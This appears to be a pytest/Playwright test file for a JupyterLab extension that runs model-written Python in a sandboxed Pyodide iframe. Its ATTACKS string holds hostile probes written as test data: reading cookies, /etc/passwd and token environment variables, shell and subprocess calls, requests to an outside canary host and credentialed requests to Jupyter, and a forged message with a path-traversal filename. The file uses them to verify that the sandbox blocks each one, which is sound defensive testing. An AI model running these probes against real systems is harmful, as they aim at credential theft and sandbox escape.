"""Python in the browser: real Pyodide in real Chromium, in the panel and, for many programs, without it."""
# ruff: noqa: E501

from __future__ import annotations

import re
import time
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from codearena_jupyter.server.python_frames import core_version

from ..environments.library_examples import MODULES, RIGHT, program
from ..openai_server import OpenAIServer
from .arena import Arena
from .conftest import forget
from .distribution import Distribution, distribution  # noqa: F401  # a fixture
from .lab import TOKEN, Lab, running_lab
from .python_frames import Frames, use_models
from .test_frame_escapes import Canary, batched, canary  # noqa: F401  # a fixture

pytestmark = pytest.mark.skipif(not core_version(), reason="the interface was built without Pyodide")

SETTINGS = "config/lab/user-settings/codearena-jupyter/plugin.jupyterlab-settings"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    home = tmp_path_factory.mktemp("lab")
    settings = home / SETTINGS
    settings.parent.mkdir(parents=True)
    settings.write_text('{"pythonInBrowser": true}')
    options = (
        "--log-level=DEBUG",
        "--CodeArenaExtension.pool_size=0",
        "--CodeArenaExtension.wall_seconds=30",
    )
    with running_lab(home, options=options) as lab:
        yield lab


@pytest.fixture
def context(profile: BrowserContext) -> Iterator[BrowserContext]:
    yield profile
    forget(profile)


@pytest.fixture
def frames(lab: Lab, openai_server: OpenAIServer, context: BrowserContext) -> Frames:
    page = context.new_page()
    page.goto(f"{lab.url}no-such-page?token={TOKEN}")
    return Frames(lab, openai_server, page)


def until(page: Page, condition: Callable[[], bool]) -> None:
    for _ in range(600):
        if condition():
            return
        page.wait_for_timeout(100)
    raise AssertionError("it did not come to that")


HELLO = "```python\nname = input()\nprint('hello', name)\nopen('note.txt', 'w').write('x' * 10)\n6 * 7\n```"
FAILING = "```python\nimport sys\nprint('before', file=sys.stderr)\n{}['missing']\n```"


@pytest.mark.timeout(400)
def test_a_battle_s_programs_run_in_the_browser_and_can_be_stopped(
    page: Page, lab: Lab, openai_server: OpenAIServer
) -> None:
    use_models(lab, openai_server, "```python\nwhile True: pass\n```", "```python\nwhile True: pass\n```")
    arena = Arena.open(page, lab, "python")
    expect(page.get_by_role("checkbox", name="Run Python in this browser")).to_be_checked(timeout=60_000)
    expect(page.get_by_text("without network, other processes and threads")).to_be_visible()
    arena.prompt.fill("Loop")
    arena.button("Send").click()
    for letter in "AB":
        expect(arena.side(letter).get_by_text("Python runs in this browser.")).to_be_visible(timeout=60_000)
    until(page, lambda: len(page.workers) == 2)
    arena.button("Stop").click()
    expect(page.locator(".jp-codearena-Message", has_text="The battle was stopped.")).to_be_visible()
    expect(page.locator(".jp-codearena-PythonRun iframe")).to_have_count(0)
    until(page, lambda: not page.workers)

    use_models(lab, openai_server, HELLO, FAILING)
    arena.button("New battle").click()
    arena.prompt.fill("Greet")
    page.get_by_text("Standard input", exact=True).click()
    page.get_by_role("textbox", name="Standard input").fill("Ada")
    with page.expect_response(re.compile("codearena/api/battles$")) as created:
        arena.button("Send").click()
    arena.wait_until_ready()
    view = lab.api("GET", f"battles/{created.value.json()['battle_id']}").json()
    greeting, failure = sorted((view["sides"][side] for side in "ab"), key=lambda side: "Key" in str(side))
    execution = greeting["execution"]
    assert (execution["status"], execution["exit_code"], execution["sandbox"]) == ("ok", 0, "pyodide")
    assert execution["stdout"] == "hello Ada\n"
    assert execution["outputs"][-1]["data"] == {"text/plain": "42"}
    assert [(file["name"], file["size"]) for file in execution["artifacts"]] == [("note.txt", 10)]
    assert "durations_ms" not in execution
    execution = failure["execution"]
    assert (execution["status"], execution["exit_code"]) == ("error", 1)
    assert execution["stderr"].startswith("before\nTraceback")
    assert execution["detail"].startswith("KeyError: 'missing'")
    shown = page.locator(".jp-codearena-Pane")
    expect(shown.filter(has_text="hello Ada")).to_have_count(1)
    expect(shown.filter(has_text="KeyError")).to_have_count(1)
    expect(page.locator(".jp-codearena-PythonRun")).to_have_count(0)
    arena.vote("Tie")


# Everything prints "blocked" or "reached". {C} is a server that nobody may reach, {J} is Jupyter.
ATTACKS = """
import asyncio, os, socket, subprocess, sys, threading, urllib.request
import js
from pyodide.ffi import to_js

def attack(name):
    def decorate(function):
        try:
            value = function()
        except BaseException as error:
            print(name, "blocked")
        else:
            print(name, "blocked" if value in (None, False) else f"reached {{value!r}}")
    return decorate

@attack("parent")
def _(): return js.parent.document.title
@attack("window")
def _(): return js.window.document.title
@attack("document")
def _(): return js.document.cookie
@attack("top")
def _(): return js.top.location.href
@attack("opener")
def _(): return js.opener.location.href
@attack("local storage")
def _(): return js.localStorage.length + 1
@attack("databases")
def _(): return js.indexedDB.open("x")
@attack("xhr")
def _():
    request = js.XMLHttpRequest.new()
    request.open("GET", "{C}/xhr", False)
    request.send()
    return request.status or None
@attack("xhr to Jupyter")
def _():
    request = js.XMLHttpRequest.new()
    request.open("GET", "{J}api/contents?evil=xhr", False)
    request.withCredentials = True
    request.send()
    return request.status or None
@attack("import scripts")
def _(): return js.importScripts("{C}/scripts") or "loaded"
@attack("import scripts of Jupyter")
def _(): return js.importScripts("{J}static/favicon.ico?evil=scripts") or "loaded"
@attack("worker of elsewhere")
def _():
    js.Worker.new("{C}/worker")
@attack("nested worker")
def _():
    text = "fetch('{C}/nested').catch(() => 0); try {{ importScripts('{C}/nested2') }} catch {{}}"
    js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([text]))))
@attack("event source")
def _():
    js.EventSource.new("{C}/events")
@attack("navigation")
def _():
    js.location.href = "{C}/navigation"
@attack("python sockets")
def _():
    connection = socket.create_connection(("{H}".split(":")[0], int("{H}".split(":")[1])), 2)
    connection.sendall(b"GET /socket HTTP/1.0")
    return connection.recv(10)
@attack("urllib")
def _(): return urllib.request.urlopen("{C}/urllib").status
@attack("processes")
def _(): return subprocess.run(["id"]).returncode + 1
@attack("shell")
def _(): return os.system("id") == 0
@attack("fork")
def _(): return os.fork() + 1
@attack("threads")
def _(): return threading.Thread(target=print).start() or "started"
@attack("host files")
def _(): return [name for name in ("/etc/passwd", "/proc/self/environ", "/root") if os.path.exists(name)] or None
@attack("environment")
def _(): return [name for name in os.environ if "JUPYTER" in name or "TOKEN" in name] or None

async def rejected(name, make):
    try:
        value = await make()
    except BaseException:
        print(name, "blocked")
    else:
        print(name, "reached", value)

async def event(kind, address):
    target = kind(address)
    future = asyncio.get_running_loop().create_future()
    target.onopen = lambda event: future.set_result("open")
    target.onerror = lambda event: future.set_exception(OSError())
    return await asyncio.wait_for(future, 3)

await rejected("fetch", lambda: js.fetch("{C}/fetch"))
await rejected("no-cors fetch", lambda: js.fetch("{C}/no-cors", to_js({{"mode": "no-cors"}}, dict_converter=js.Object.fromEntries)))
await rejected("fetch of Jupyter", lambda: js.fetch("{J}api/contents?evil=fetch", to_js({{"credentials": "include"}}, dict_converter=js.Object.fromEntries)))
await rejected("core again", lambda: js.fetch("{J}codearena/pyodide/version.txt?evil=core"))
await rejected("dynamic import", lambda: js.eval("import('{C}/module')"))
await rejected("module of data", lambda: js.eval("import('data:text/javascript,fetch(`{C}/data`)')"))
await rejected("socket", lambda: event(js.WebSocket.new, "{W}/socket"))
await rejected("socket of Jupyter", lambda: event(js.WebSocket.new, "{J}api/events/subscribe?evil=socket".replace("http", "ws")))
await rejected("caches", lambda: js.caches.open("x"))
await rejected("micropip", lambda: __import__("micropip").install("snowballstemmer"))
channel = js.BroadcastChannel.new("jupyter")
channel.postMessage("hello from the frame")
js.postMessage(to_js({{"type": "end", "end": "exit", "exit_code": "forged", "files": [{{"name": "../../evil", "size": 1}}]}}, dict_converter=js.Object.fromEntries)) if {FORGED} else None
print("done")
"""


@pytest.mark.timeout(240)
def test_a_hostile_program_reaches_neither_the_network_nor_jupyter_nor_the_page(
    frames: Frames,
    context: BrowserContext,
    canary: Canary,  # noqa: F811
) -> None:
    frames.page.evaluate(
        "() => { window.heard = []; new BroadcastChannel('jupyter').onmessage = e => window.heard.push(e.data) }"
    )
    address = frames.page.url
    places = {
        "C": f"http://{canary.address}",
        "W": f"ws://{canary.address}",
        "H": canary.address,
        "J": frames.lab.url,
    }
    programs = {
        "attacks": {"code": ATTACKS.format(FORGED=False, **places)},
        "forged": {"code": ATTACKS.format(FORGED=True, **places)},
    }
    executions = frames.run(programs)
    told = executions["attacks"]["stdout"].splitlines()
    assert told[-1] == "done", executions["attacks"]["stderr"]
    # A worker of a foreign address and an event source fail without telling; the canary counts them.
    assert len(told) > 30
    assert [line for line in told if "reached" in line] == []
    forged = executions["forged"]
    assert forged["exit_code"] in (0, 1)
    assert forged["artifacts"] == []
    time.sleep(1)
    assert canary.knocks == []
    assert "evil=" not in frames.lab.log.read_text().replace('"code"', "")
    assert frames.page.evaluate("window.heard") == []
    assert (frames.page.url, len(context.pages)) == (address, 1)
    # Opened in a tab of its own, the page waits for somebody who has Pyodide, and may do no more.
    response = context.request.get(f"{frames.lab.url}codearena/python/unknown")
    assert response.status == 404
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "sandbox allow-scripts" in policy


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_packages_come_from_the_distribution_that_was_named_and_from_nowhere_else(
    frames: Frames,
    distribution: Distribution,  # noqa: F811
) -> None:
    code = "import greeting\nprint(greeting.greet('Ada'))"
    outside = f"import js\ntry:\n    await js.fetch('{distribution.url}elsewhere')\nexcept Exception:\n    print('no')"
    full = {"pyodide_packages": f"{distribution.url}full"}
    executions = frames.run(
        {
            "with": {"code": code, **full},
            "without": {"code": code},
            "unknown": {"code": "import nobody_has_this", **full},
            "outside": {"code": outside, **full},
            "old": {"code": code, "pyodide_packages": f"{distribution.url}old/"},
            "gone": {"code": code, "pyodide_packages": "http://127.0.0.1:9/"},
        }
    )
    assert (executions["with"]["status"], executions["with"]["stdout"]) == ("ok", "good day, Ada\n")
    assert executions["without"]["status"] == "error"
    assert "packages can be had only from a Pyodide distribution" in executions["without"]["detail"]
    assert executions["unknown"]["detail"].startswith("ModuleNotFoundError")
    assert executions["outside"]["stdout"] == "no\n"
    assert executions["old"]["status"] == executions["gone"]["status"] == "install_failed"
    assert "for another Pyodide (2020_0 instead of" in executions["old"]["detail"]
    assert not [path for path in distribution.asked if not path.startswith(("/full/", "/old/"))]
    refused = frames.lab.api(
        "POST",
        "battles",
        json={"prompt": "x", "python": "browser", "pyodide_packages": "https://a.b/;script-src *"},
    )
    assert refused.status_code == 400
    assert "no address of a Pyodide distribution" in refused.json()["message"]


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_the_library_s_own_examples_give_their_output_in_the_browser(frames: Frames) -> None:
    executions = frames.run({module: {"code": program(module)} for module in MODULES})
    told = {module: execution["stdout"] + execution["stderr"] for module, execution in executions.items()}
    assert len(told) > 10
    assert told == dict.fromkeys(MODULES, RIGHT)


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_input_files_endings_and_limits_are_told_as_of_every_sandbox(frames: Frames) -> None:
    programs: dict[str, tuple[dict[str, str], tuple[str, int | None], str]] = {
        "exit": ({"code": "import sys\nsys.exit(3)"}, ("error", 3), "exit code 3"),
        "input": ({"code": "print(int(input()) + 1)\ninput()", "stdin": "41\n"}, ("error", 1), "standard input was at"),
        "syntax": ({"code": "x = ("}, ("error", 1), "SyntaxError"),
        "awaiting": ({"code": "import asyncio\nasync def f():\n    await asyncio.sleep(.01)\nasyncio.run(f())"}, ("ok", 0), ""),
        "memory": ({"code": "x = [bytearray(1 << 28) for _ in range(20)]"}, ("limit", 1), "memory"),
        "flood": ({"code": "while True: print('x' * 1000)"}, ("limit", None), "printed without end"),
        "processes": ({"code": "import subprocess\nsubprocess.run(['ls'])"}, ("error", 1), "no other processes"),
        "text": ({"code": "print('\\x1b[31mred\\x1b[0m', '\\ud800'.encode('utf-8', 'surrogatepass'))"}, ("ok", 0), ""),
    }  # fmt: skip
    executions = frames.run({name: fields for name, (fields, _, _) in programs.items()})
    for name, (_, ended, detail) in programs.items():
        execution = executions[name]
        assert (execution["status"], execution["exit_code"]) == ended, (name, execution)
        assert detail in execution["detail"], name
    assert executions["input"]["stdout"] == "42\n"
    assert executions["flood"]["truncated"]
    assert len(executions["flood"]["stdout"]) <= 2 << 20
    assert "\x1b[31mred" in executions["text"]["stdout"]


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_the_answers_other_files_lie_beside_a_program_in_the_browser(frames: Frames) -> None:
    answer = (
        "`tools/sums.py`\n```python\ndef add(a, b):\n    return a + b\n```\n"
        "`main.py`\n```python\nfrom tools.sums import add\nprint(add(20, 22))\n```\n"
    )
    sides = frames.battle(answer)
    assert [side["execution"]["stdout"] for side in sides.values()] == ["42\n"] * 2
    assert [side["execution"]["artifacts"] for side in sides.values()] == [[], []]
